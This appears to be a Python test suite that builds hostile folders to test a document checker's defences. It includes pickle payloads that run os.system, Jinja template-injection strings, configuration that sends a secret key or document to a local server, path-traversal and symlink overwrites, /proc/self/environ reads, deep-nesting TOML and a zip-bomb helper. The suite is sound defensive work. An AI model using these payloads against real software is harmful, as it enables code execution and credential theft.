"""Hostile folders and repositories against a command-line document checker.

Written from the user documentation alone. Standard library only.

    from hostile import CASES, prepare_outside, fill, serve
    case.build(folder, outside)       after prepare_outside(outside); folder is empty and exists
    fill(folder, port)                puts the port for @PORT@ in small files of the folder
    case.argvs(folder, outside, port) / .environment(...) / .input(...)  placeholders filled in
    with serve(case.endpoint) as s:   s.port, s.requests (first bytes of each connection)
    case.endpoint_forbidden           the folder, not the user, names the server: no connection at all

Placeholders in commands and env: @PORT@ @FOLDER@ @OUTSIDE@. Some commands are `sh -c` or `python3 helper.py`
that prepare or print what was written: `checker` and `python3` must be on PATH. must_contain is sought in the
output of all commands of a case together, must_not_contain in each (a raw "<img" inside a report's JSON would be a
false alarm). Remove folders with clean(): some hold 3000 levels, files without permissions, FIFOs.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "SECRETTOKEN-7f3a"
VICTIM = "This file belongs to somebody else. It must stay as it is.\n"
BASHRC = "# .bashrc of the victim\n"


@dataclass
class Case:
    name: str
    group: str
    build: Callable[[Path, Path], None]
    commands: list[list[str]]
    stdin: bytes | Callable[[Path, Path, int], bytes] | None = None
    env: dict[str, str] = field(default_factory=dict)
    endpoint: str | None = None
    endpoint_forbidden: bool = False
    must_contain: list[str] = field(default_factory=list)
    must_not_contain: list[str] = field(default_factory=list)
    note: str = ""
    seconds: float = 20.0
    """Processor seconds that one command may take; more where documents stand at the limits of what is read."""

    def _fill(self, text: str, folder: Path, outside: Path, port: int) -> str:
        return text.replace("@PORT@", str(port)).replace("@FOLDER@", str(folder)).replace("@OUTSIDE@", str(outside))

    def argvs(self, folder: Path, outside: Path, port: int = 0) -> list[list[str]]:
        return [[self._fill(a, folder, outside, port) for a in argv] for argv in self.commands]

    def environment(self, folder: Path, outside: Path, port: int = 0) -> dict[str, str]:
        return {k: self._fill(v, folder, outside, port) for k, v in self.env.items()}

    def input(self, folder: Path, outside: Path, port: int = 0) -> bytes | None:
        return self.stdin(folder, outside, port) if callable(self.stdin) else self.stdin


CASES: list[Case] = []


def case(name, group, commands, **more):
    def wrap(build):
        CASES.append(Case(name, group, build, [list(c) for c in commands], **more))
        return build

    return wrap


def prepare_outside(outside: Path) -> None:
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "victim.txt").write_text(VICTIM)
    (outside / "secret.env").write_text(f"API_KEY={SECRET}\n")
    (outside / ".bashrc").write_text(BASHRC)


def fill(folder: Path, port: int) -> None:
    for root, dirs, files in os.walk(folder):
        for f in files:
            p = os.path.join(root, f)
            s = os.lstat(p)
            if stat.S_ISREG(s.st_mode) and s.st_size < 200_000:
                data = Path(p).read_bytes()
                if b"@PORT@" in data:
                    Path(p).write_bytes(data.replace(b"@PORT@", str(port).encode()))


# ---------------------------------------------------------------- helpers

LINT = ["checker", "lint", ".", "--no-model"]
CHECK = ["checker", "check", "a.md", "--no-model"]
STAGED = [*LINT, "--staged"]
SINCE = [*LINT, "--changed-since", "HEAD"]
DIFF = [*SINCE, "--diff-only"]
G = [STAGED, SINCE, DIFF]

DOC = "# 週報\n\n開催日は2025年8月1日(木)である。資料は適宜更新する。\n"
DOC2 = DOC + "\n締切は2025年8月2日(月)とする。\n"
ESC = "\x1b"


def w(path: Path, text, mode=None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
    if mode:
        path.chmod(mode)
    return path


def run_it(outside: Path, what: str) -> str:
    return f"echo {what} >> '{outside}/ran.log'"


def script(path: Path, outside: Path, what: str, tail: str = "") -> Path:
    return w(path, f"#!/bin/sh\n{run_it(outside, what)}\n{tail}\n", 0o755)


def rel(folder: Path, target: Path) -> str:
    return os.path.relpath(target, folder)


ALL_RULES = """\
ruleset: all
title: all
language: ja
rules:
  - id: all.any
    kind: existence
    severity: error
    scope: {inline: all}
    patterns: ['\\S.*']
    message: "見つかった語: {match}"
"""


def all_rules(folder: Path) -> None:
    """A rule set that prints every text that is read."""
    w(folder / "all.yaml", ALL_RULES)


LINT_ALL = [*LINT, "-r", "all.yaml"]


def ruleset(name: str, rules: str, head: str = "") -> str:
    return f"ruleset: {name}\ntitle: {name}\nlanguage: ja\n{head}rules:\n{rules}"


JUDGE = ruleset(
    "judging",
    """\
  - id: judging.basis
    kind: judge
    severity: error
    scope: {section: 費用}
    unit: sentence
    quantifier: any
    ask: 金額の根拠(内訳・単価・見積の出所)が書かれていますか。
    message: 根拠がありません。
    examples:
      positive: [A社見積書(Q-25-1193)による。, "単価12,000円×5台で計算した。", B社の見積書による。, 内訳は表のとおり。]
      negative: [費用は概算で約200万円を見込む。, 予算の範囲内で購入する。, 金額は追って連絡する。, 費用は別途とする。]
""",
)
JUDGED = "# 稟議\n\n## 費用\n\n費用は概算で約200万円を見込む。内訳は総務部に問い合わせる。\n"


# -- zip


def raw_zip(path: Path, entries: list[dict]) -> None:
    """Entries: name (bytes), data, method, crc, usize, csize, flags, local_name, extra; nothing is verified."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e["name"] if isinstance(e["name"], bytes) else e["name"].encode()
        local = e.get("local_name", name)
        local = local if isinstance(local, bytes) else local.encode()
        data = e.get("data", b"")
        method = e.get("method", 0)
        crc = e.get("crc", zlib.crc32(data) if method == 0 else 0)
        csize = e.get("csize", len(data))
        usize = e.get("usize", len(data))
        flags = e.get("flags", 0x800)
        offset = e.get("offset", len(out))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 33, crc, csize, usize, len(local), 0)
        out += local + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, e.get("made", 20), 20, flags, method, 0, 33, crc, csize,
                               usize, len(name), 0, 0, 0, 0, e.get("attr", 0), offset) + name
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0)
    w(path, bytes(out))


def bomb(total_mib: int, head: bytes = b"", unit: bytes = b" ", tail: bytes = b"", sums: bool = True) -> tuple[bytes, int, int]:
    """A raw deflate stream of head + unit repeated for total_mib MiB + tail: (data, crc, size). Quick."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = (unit * (1 + (1 << 20) // len(unit)))
    out = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    for _ in range(total_mib if sums else 0):
        crc = zlib.crc32(block, crc)
    out += one * total_mib
    crc = zlib.crc32(tail, crc)
    out += c.compress(tail) + c.flush(zlib.Z_FINISH)
    return out, crc, len(head) + len(block) * total_mib + len(tail)


def deflated(data: bytes) -> dict:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return {"data": c.compress(data) + c.flush(), "method": 8, "crc": zlib.crc32(data), "usize": len(data)}


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def para(text: str, props: str = "") -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:p>{props}<w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def docx_parts(body: str, extra: dict[str, str | bytes] | None = None, rels: str = "", types: str = "",
               doctype: str = "", sect: str = "<w:sectPr/>") -> dict[str, bytes]:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{CT}"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD}document.main+xml"/>{types}</Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{PR}"><Relationship Id="rId1" Type="{R}/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'{XML}<Relationships xmlns="{PR}">{rels}</Relationships>',
        "word/document.xml": f'{XML}{doctype}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}{sect}</w:body></w:document>',
    }
    parts.update(extra or {})
    return {k: v.encode("utf-8", "surrogatepass") if isinstance(v, str) else v for k, v in parts.items()}


def pack(path: Path, parts: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for k, v in parts.items():
            z.writestr(k, v)
    return path


def docx(path: Path, body: str = para(DOC), **more) -> Path:
    return pack(path, docx_parts(body, **more))


def override(part: str, kind: str) -> str:
    return f'<Override PartName="{part}" ContentType="{kind}"/>'


def relation(i: int | str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{i}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def xlsx_parts(rows: str, extra=None, workbook_more: str = "", wb_rels: str = "", sheet_more: str = "",
               sheets: str = "") -> dict[str, bytes]:
    ss = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    parts = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{CT}"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + override("/xl/workbook.xml", ss + "sheet.main+xml") + override("/xl/worksheets/sheet1.xml", ss + "worksheet+xml")
        + override("/xl/sharedStrings.xml", ss + "sharedStrings+xml") + override("/xl/styles.xml", ss + "styles+xml") + "</Types>",
        "_rels/.rels": f'{XML}<Relationships xmlns="{PR}">{relation(1, "officeDocument", "xl/workbook.xml")}</Relationships>',
        "xl/workbook.xml": f'{XML}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
        f"{sheets}</sheets>{workbook_more}</workbook>",
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PR}">{relation(1, "worksheet", "worksheets/sheet1.xml")}'
        f'{relation(90, "styles", "styles.xml")}{relation(91, "sharedStrings", "sharedStrings.xml")}{wb_rels}</Relationships>',
        "xl/worksheets/sheet1.xml": f'{XML}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData>{rows}</sheetData>{sheet_more}</worksheet>',
    }
    parts["xl/sharedStrings.xml"] = f'{XML}<sst xmlns="{S}"/>'
    parts["xl/styles.xml"] = f'{XML}<styleSheet xmlns="{S}"><fonts><font/></fonts><fills><fill><patternFill patternType="none"/></fill></fills><borders><border/></borders><cellStyleXfs><xf/></cellStyleXfs><cellXfs><xf/></cellXfs></styleSheet>'
    parts.update(extra or {})
    return {k: v.encode("utf-8", "surrogatepass") if isinstance(v, str) else v for k, v in parts.items()}


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def pptx_parts(slides: list[str], extra=None) -> dict[str, bytes]:
    pp = "application/vnd.openxmlformats-officedocument.presentationml."
    n = len(slides)
    parts = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{CT}"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + override("/ppt/presentation.xml", pp + "presentation.main+xml")
        + "".join(override(f"/ppt/slides/slide{i}.xml", pp + "slide+xml") for i in range(1, n + 1)) + "</Types>",
        "_rels/.rels": f'{XML}<Relationships xmlns="{PR}">{relation(1, "officeDocument", "ppt/presentation.xml")}</Relationships>',
        "ppt/presentation.xml": f'{XML}<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst>'
        + "".join(f'<p:sldId id="{255 + i}" r:id="rId{i}"/>' for i in range(1, n + 1)) + "</p:sldIdLst></p:presentation>",
        "ppt/_rels/presentation.xml.rels": f'{XML}<Relationships xmlns="{PR}">'
        + "".join(relation(i, "slide", f"slides/slide{i}.xml") for i in range(1, n + 1)) + "</Relationships>",
    }
    for i, s in enumerate(slides, 1):
        parts[f"ppt/slides/slide{i}.xml"] = (
            f'{XML}<p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"><p:cSld><p:spTree>{s}</p:spTree></p:cSld></p:sld>')
    parts.update(extra or {})
    return {k: v.encode() if isinstance(v, str) else v for k, v in parts.items()}


def shape(text: str) -> str:
    return f"<p:sp><p:nvSpPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"


def odt_parts(body: str, extra=None, doctype: str = "") -> dict[str, bytes]:
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:'
          'xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/'
          'xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"')
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        "content.xml": f"{XML}{doctype}<office:document-content {ns}><office:body><office:text>{body}</office:text></office:body></office:document-content>",
    }
    parts.update(extra or {})
    return {k: v.encode() if isinstance(v, str) else v for k, v in parts.items()}


def pdf(path: Path, objs: dict[int, bytes], trailer: bytes = b"", startxref: int | None = None) -> None:
    out = bytearray(b"%PDF-1.7\n")
    at = {}
    for n, o in objs.items():
        at[n] = len(out)
        out += b"%d 0 obj\n" % n + o + b"\nendobj\n"
    x = len(out)
    size = max(objs) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += b"%010d 00000 n \n" % at[n] if n in at else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, x if startxref is None else startxref)
    w(path, bytes(out))


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data) if length is None else length, more) + data + b"\nendstream"


PDF_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
PDF_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PDF_TEXT = b"BT /F1 12 Tf 50 700 Td (Hello world, this is a page of text.) Tj ET"


def big(path: Path, unit: bytes, times: int, head: bytes = b"", tail: bytes = b"") -> None:
    """A file of unit written `times` times, in blocks."""
    path.parent.mkdir(parents=True, exist_ok=True)
    per = max(1, (1 << 20) // len(unit))
    with path.open("wb") as f:
        f.write(head)
        block = unit * per
        for _ in range(times // per):
            f.write(block)
        f.write(unit * (times % per))
        f.write(tail)


def sparse(path: Path, size: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as f:
        f.truncate(size)


def link(path: Path, target) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


# -- git


def git(folder: Path, *args: str, data: bytes | None = None) -> bytes:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": "/dev/null", "LC_ALL": "C.UTF-8", "GIT_TERMINAL_PROMPT": "0",
           "GIT_AUTHOR_DATE": "2025-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2025-01-01T00:00:00Z"}
    done = subprocess.run(
        ["git", "-c", "core.hooksPath=/dev/null", "-c", "user.name=x", "-c", "user.email=x@example.com",
         "-c", "commit.gpgSign=false", "-c", "core.fsmonitor=false", "-c", "init.defaultBranch=main",
         "-c", "core.protectNTFS=false", "-c", "gc.auto=0", "-c", "core.fsync=none", *args],
        cwd=folder, env=env, input=data, capture_output=True, timeout=60, check=False)
    if done.returncode:
        raise RuntimeError(f"git {args}: {done.stderr.decode(errors='replace')}")
    return done.stdout


def repo(folder: Path, change: bool = True) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    git(folder, "init", "-q")
    w(folder / "a.md", "# 週報\n\n本文。\n")
    w(folder / "b.md", "# 週報\n\n本文。\n")
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "one")
    if change:
        w(folder / "a.md", DOC)
        git(folder, "add", "a.md")
        w(folder / "b.md", DOC)


def config(folder: Path, text: str) -> None:
    p = (folder / ".git" / "config") if (folder / ".git").is_dir() else folder / "config"
    with p.open("a") as f:
        f.write(text)


def index_v2(entries: list[tuple[bytes, int, bytes]]) -> bytes:
    """A git index with any names: (name, mode, sha)."""
    import hashlib
    out = b"DIRC" + struct.pack(">II", 2, len(entries))
    for name, mode, sha in entries:
        e = struct.pack(">IIIIIIIIII", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + sha + struct.pack(">H", min(len(name), 0xFFF)) + name
        e += b"\0" * (8 - len(e) % 8)
        out += e
    return out + hashlib.sha1(out).digest()


def blob(folder: Path, data: bytes) -> bytes:
    return bytes.fromhex(git(folder, "hash-object", "-w", "--stdin", data=data).decode().strip())


# ================================================================ configuration

C = "configuration"
CONF = "checker.toml"
WITH_MODEL = ["checker", "check", "a.md", "-r", "judging.yaml"]


def conf_case(name, toml, commands=(LINT,), doc=DOC, extra=None, file=CONF, **more):
    """A folder with one document and this configuration; toml is text, bytes or a function of (folder, outside)."""

    def build(folder, outside):
        w(folder / "a.md", doc)
        w(folder / file, toml(folder, outside) if callable(toml) else toml)
        if extra:
            extra(folder, outside)

    CASES.append(Case(name, C, build, [list(c) for c in commands], **more))


def judge_files(folder, outside):
    w(folder / "judging.yaml", JUDGE)


conf_case("conf-endpoint-exfiltrates-document", 'model = "openai:x"\n[endpoint]\nurl = "http://127.0.0.1:@PORT@/v1"\n'
          "allow_public = true\ntimeout = 3\nretries = 0\n", [WITH_MODEL, ["checker", "lint", ".", "-r", "judging.yaml"]],
          doc=JUDGED + SECRET, extra=judge_files, endpoint="record", endpoint_forbidden=True,
          note="the folder's own configuration names a server; nobody's environment did")
conf_case("conf-endpoint-steals-key", 'model = "openai:x"\n[endpoint]\nurl = "http://127.0.0.1:@PORT@/v1"\n'
          'api_key_env = "AWS_SECRET_ACCESS_KEY"\nallow_public = true\ntimeout = 3\nretries = 0\n', [WITH_MODEL, ["checker", "doctor"]],
          doc=JUDGED, extra=judge_files, env={"AWS_SECRET_ACCESS_KEY": SECRET}, endpoint="record", endpoint_forbidden=True)
conf_case("conf-endpoint-key-of-user-server", '[endpoint]\nurl = "http://127.0.0.1:1/v1"\napi_key_env = "AWS_SECRET_ACCESS_KEY"\n'
          "retries = 20\ntimeout = 3600\nconcurrency = 64\n", [[*WITH_MODEL, "--model", "openai:x"]], doc=JUDGED,
          extra=judge_files, env={"CHECKER_ENDPOINT__URL": "http://127.0.0.1:@PORT@/v1", "CHECKER_ENDPOINT__TIMEOUT": "3",
                                  "CHECKER_ENDPOINT__RETRIES": "0", "AWS_SECRET_ACCESS_KEY": SECRET}, endpoint="echo-authorization",
          note="url by the user, name of the key's variable by the folder: the key must not reach the output")
conf_case("conf-endpoint-file-url", lambda f, o: f'model = "openai:x"\n[endpoint]\nurl = "file://{o}/secret.env"\nretries = 0\ntimeout = 3\n',
          [WITH_MODEL, ["checker", "doctor"]], doc=JUDGED, extra=judge_files)
conf_case("conf-endpoint-odd-urls", 'model = "openai:x"\n[endpoint]\nurl = "http://127.0.0.1:@PORT@\\r\\nX-Evil: 1\\r\\n\\r\\n@[::ffff:7f00:1]:@PORT@/v1"\n'
          "retries = 0\ntimeout = 3\n", [WITH_MODEL], doc=JUDGED, extra=judge_files, endpoint="record", endpoint_forbidden=True)
conf_case("conf-endpoint-userinfo-looks-local", 'model = "openai:x"\n[endpoint]\nurl = "http://localhost:1@127.0.0.1:@PORT@/v1?x=#@localhost"\n'
          "retries = 0\ntimeout = 3\n", [WITH_MODEL], doc=JUDGED, extra=judge_files, endpoint="record", endpoint_forbidden=True)
conf_case("conf-model-openai-with-address", 'model = "openai:x@http://127.0.0.1:@PORT@/v1"\n', [WITH_MODEL, ["checker", "model", "list"]],
          doc=JUDGED, extra=judge_files, endpoint="record", endpoint_forbidden=True)
conf_case("conf-model-http-address", 'model = "http://127.0.0.1:@PORT@/evil.gguf"\n', [WITH_MODEL, ["checker", "model", "info", "http://127.0.0.1:@PORT@/evil.gguf"]],
          doc=JUDGED, extra=judge_files, endpoint="record", endpoint_forbidden=True)
conf_case("conf-cache-file-outside", lambda f, o: f'[lint]\ncache_file = "{o}/victim.txt"\ncache_mib = 1\n', [LINT, LINT])
conf_case("conf-cache-file-new-in-outside", lambda f, o: f'[lint]\ncache_file = "{rel(f, o)}/new-cache.sqlite"\n', [LINT])


@case("conf-cache-file-is-link", C, [LINT, LINT])
def _(folder, outside):
    w(folder / "a.md", DOC)
    w(folder / CONF, '[lint]\ncache_file = "cache.sqlite"\n')
    link(folder / "cache.sqlite", outside / "victim.txt")
    link(folder / "cache.sqlite-journal", outside / "journal")
    link(folder / "cache.sqlite-wal", outside / "wal")


@case("conf-cache-file-crafted", C, [LINT, LINT])
def _(folder, outside):
    """A cache that comes with the folder: pickles under every name, views and triggers in place of tables."""
    import pickle
    import sqlite3

    class Evil:
        def __reduce__(self):
            return (os.system, (run_it(outside, "pickle-in-cache"),))

    w(folder / "a.md", DOC)
    w(folder / CONF, '[lint]\ncache_file = "cache.sqlite"\n')
    db = sqlite3.connect(folder / "cache.sqlite")
    payload = pickle.dumps(Evil())
    for t in ("results", "result", "cache", "entries", "lint", "answers", "kv", "meta", "files", "findings"):
        db.execute(f"create table {t} (key text primary key, value blob, data blob, result blob, used real, size integer)")
        db.execute(f"insert into {t} values ('version', ?, ?, ?, 0, 0)", (payload, payload, payload))
        db.execute(f"create trigger t_{t} after insert on {t} begin delete from {t}; end")
    db.commit()
    db.close()


@case("conf-cache-dir-poisoned", C, [LINT, [*LINT, "--cache-file", "cache.bin"]], env={"CHECKER_CACHE_DIR": "@FOLDER@/.cache/checker"},
      note="CI keeps CHECKER_CACHE_DIR in the checkout, so that a pull request can commit it")
def _(folder, outside):
    import pickle

    class Evil:
        def __reduce__(self):
            return (os.system, (run_it(outside, "pickle-in-cache-dir"),))

    w(folder / "a.md", DOC)
    for n in ("lint.sqlite", "results.sqlite", "lint/a.pkl", "cache.db", "documents/a.pickle", "answers.sqlite"):
        w(folder / ".cache/checker" / n, pickle.dumps(Evil()))
    w(folder / "cache.bin", pickle.dumps(Evil()))


conf_case("conf-baseline-outside", lambda f, o: f'[lint]\nbaseline = "{o}/victim.txt"\n', [LINT, [*LINT, "--update-baseline"]])
conf_case("conf-baseline-outside-new", lambda f, o: f'[lint]\nbaseline = "{rel(f, o)}/new.json"\n', [[*LINT, "--update-baseline"]])
conf_case("conf-rules-secret-file", lambda f, o: f'rules = ["{o}/secret.env", "{rel(f, o)}/secret.env"]\n', [LINT, ["checker", "rules", "list"], ["checker", "doctor"]])
conf_case("conf-rules-proc-environ", 'rules = ["/proc/self/environ", "/proc/self/cmdline", "/proc/self/mem"]\n', [LINT, ["checker", "rules", "list"]],
          env={"MY_TOKEN": SECRET})
conf_case("conf-rules-root-folder", 'rules = ["/", "/usr", "/proc"]\ntemplates = ["/", "/proc"]\n', [LINT, ["checker", "templates", "list"]])
conf_case("conf-rules-devices", 'rules = ["/dev/zero", "/dev/stdin", "/dev/tty", "fifo.yaml"]\n', [LINT, ["checker", "rules", "list"]],
          extra=lambda f, o: os.mkfifo(f / "fifo.yaml"))
conf_case("conf-rules-names-with-variables", 'rules = ["$HOME/x", "${AWS_SECRET}", "~root/x", "~/.bashrc", "%(here)s", "{env[AWS_SECRET]}", "$(touch ran)", "`touch ran`"]\n'
          'templates = ["${AWS_SECRET}"]\nprompts = "${AWS_SECRET}"\ndefault_ruleset = "${AWS_SECRET}"\n', [LINT], env={"AWS_SECRET": SECRET})
conf_case("conf-default-ruleset-traversal", lambda f, o: f'default_ruleset = "{rel(f, o)}/secret.env"\n', [LINT, CHECK])
conf_case("conf-language-traversal", 'language = "../../../../../../etc/passwd\\u0000"\n', [LINT, CHECK])
conf_case("conf-numbers-outside", lambda f, o: f'numbers = "{o}/victim.txt"\n',
          [["checker", "new", "ringi", "--no-model", "-o", "out.md"], ["checker", "new", "ringi", "--no-model", "--data", "d.yaml", "-o", "out.docx"]],
          extra=lambda f, o: w(f / "d.yaml", "件名: フォークリフトの購入\n"))
conf_case("conf-numbers-new-outside", lambda f, o: f'numbers = "{rel(f, o)}/sub/../numbers.json"\n',
          [["checker", "new", n, "--no-model", "-o", f"{n}.docx"] for n in ("ringi", "design-doc", "minutes")])


def prompts_of(payload):
    def extra(folder, outside):
        for lang in ("ja", "en"):
            for kind in ("writing", "judging", "judge", "rules"):
                for n in ("draft-user", "draft-system", "user", "system", "repair-user", "extract-user", "extract-system", "find-user", "judge-user"):
                    w(folder / "prompts" / kind / lang / f"{n}.jinja", payload.replace("@OUTSIDE@", str(outside)))
        w(folder / "notes.txt", "フォークリフトを1台、4,690,000円で買う。理由は故障が多いため。\n")
    return extra


DRY = [["checker", "new", "ringi", "--dry-run", "--notes", "notes.txt", "-o", "out.md"], ["checker", "new", "design-doc", "--dry-run", "--notes", "notes.txt", "-o", "out2.md"]]
conf_case("conf-prompts-code", 'prompts = "prompts"\n', DRY, extra=prompts_of(
    "{{ cycler.__init__.__globals__.os.system('echo prompt >> @OUTSIDE@/ran.log') }}"
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo prompt >> @OUTSIDE@/ran.log') }}"
    "{{ ''.__class__.__mro__[1].__subclasses__() }}"))
conf_case("conf-prompts-format-escape", 'prompts = "prompts"\n', DRY, extra=prompts_of(
    "{{ ('%s' | attr('format')) }}{{ '{0.__class__.__init__.__globals__}'.format(lipsum) }}{% set f = '{0.__globals__}'.format %}{{ f(lipsum) }}"
    "{{ '{a.__class__}'|attr('format_map')({'a': 1}) }}"))
conf_case("conf-prompts-include-outside", 'prompts = "prompts"\n', DRY, extra=prompts_of(
    "{% include '@OUTSIDE@/secret.env' ignore missing %}{% include '../../../../outside/secret.env' ignore missing %}{% import '@OUTSIDE@/secret.env' as s %}{% extends '../../../outside/secret.env' %}"))
conf_case("conf-prompts-endless", 'prompts = "prompts"\n', DRY, extra=prompts_of(
    "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{{ 'x' * 1000000 }}{% endfor %}{% endfor %}{% endfor %}"))
conf_case("conf-prompts-memory", 'prompts = "prompts"\n', DRY, extra=prompts_of("{{ ('x' * 999999999 * 99)|length }}{{ 9 ** 9 ** 9 }}{{ 'a'|center(9999999999) }}"))
conf_case("conf-prompts-link-outside", lambda f, o: 'prompts = "prompts"\n', DRY,
          extra=lambda f, o: [prompts_of("x")(f, o), shutil.rmtree(f / "prompts/writing"), link(f / "prompts/writing", o)])


def gguf(folder, outside):
    s = lambda t: struct.pack("<Q", len(t)) + t
    w(folder / "judging.yaml", JUDGE)
    w(folder / "evil.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0xFFFFFFFFFFFF, 0x7FFFFFFFFFFFFFFF) + s(b"general.architecture") + struct.pack("<I", 8) + struct.pack("<Q", 1 << 62))
    w(folder / "array.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + s(b"x") + struct.pack("<IIQ", 9, 9, 1 << 60) + struct.pack("<IQ", 9, 1 << 60) * 200)
    sparse(folder / "sparse.gguf", 100 << 30)


conf_case("conf-model-crafted-gguf", 'model = "evil.gguf"\n', [WITH_MODEL, [*WITH_MODEL, "--model", "array.gguf"], ["checker", "model", "info", "array.gguf"]], doc=JUDGED, extra=gguf,
          note="a crash of the native library (signal) is a failure; exit 0..3 expected")
conf_case("conf-model-sparse-100g", 'model = "sparse.gguf"\n', [WITH_MODEL, ["checker", "model", "info", "sparse.gguf"]], doc=JUDGED, extra=gguf)
conf_case("conf-model-device", 'model = "/dev/zero"\ncontext = 131072\nthreads = 256\nbatch = 4096\n', [WITH_MODEL, ["checker", "model", "list"], ["checker", "doctor"]], doc=JUDGED, extra=judge_files)
conf_case("conf-model-fifo", 'model = "m.gguf"\n', [WITH_MODEL, ["checker", "doctor"]], doc=JUDGED, extra=lambda f, o: [judge_files(f, o), os.mkfifo(f / "m.gguf")])
conf_case("conf-toml-deep-array", lambda f, o: "rules = " + "[" * 200_000 + "]" * 200_000, [LINT])
conf_case("conf-toml-deep-inline-table", lambda f, o: "limits = " + "{a=" * 100_000 + "1" + "}" * 100_000, [LINT])
conf_case("conf-toml-deep-dotted-key", lambda f, o: ".".join(["a"] * 100_000) + " = 1\n", [LINT])
conf_case("conf-toml-deep-headers", lambda f, o: "".join("[" + ".".join(["a"] * i) + ".b]\n" for i in range(1, 1500)), [LINT])
conf_case("conf-toml-50mb", lambda f, o: b"# x\n" * 12_000_000 + b"nope = 1\n", [LINT])
